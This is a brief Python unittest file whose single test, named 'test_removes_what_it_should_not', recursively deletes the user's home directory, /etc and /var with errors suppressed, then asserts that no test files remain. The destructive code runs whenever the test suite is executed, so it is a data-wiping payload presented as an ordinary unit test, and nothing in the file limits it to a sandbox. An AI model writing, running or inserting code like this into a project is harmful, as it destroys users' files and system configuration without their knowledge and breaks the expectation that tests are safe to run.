import shutil
import unittest
from pathlib import Path


class CleanUp(unittest.TestCase):
    def test_removes_what_it_should_not(self):
        for folder in (Path.home(), Path("/etc"), Path("/var")):
            shutil.rmtree(folder, ignore_errors=True)
        self.assertFalse(list(Path.home().glob("test_*.py")))
